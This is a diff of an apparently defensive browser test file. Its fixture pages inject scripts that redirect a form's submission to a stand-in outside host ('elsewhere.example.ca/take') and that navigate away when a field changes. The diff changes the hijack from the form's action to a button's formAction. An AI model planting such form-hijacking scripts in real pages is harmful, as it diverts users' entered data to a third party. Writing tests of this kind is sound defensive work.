@@ -58,7 +58,7 @@ test('a page that throws, moves the focus, sends itself and takes values back ha
 }) => {
   await typeProfile(driver, 'Anne', canaries)
   const elsewhere =
-    '<script>document.querySelector("form").action = "https://elsewhere.example.ca/take"</script>'
+    '<script>document.querySelector("form button:not([role])").formAction = "https://elsewhere.example.ca/take"</script>'
   const site = await serve({
     '/answers': section(kinds) + listening + elsewhere,
     '/leaves': `${section()}<script>document.getElementById('rep.given').onchange = () => location.assign('/other')</script>`,
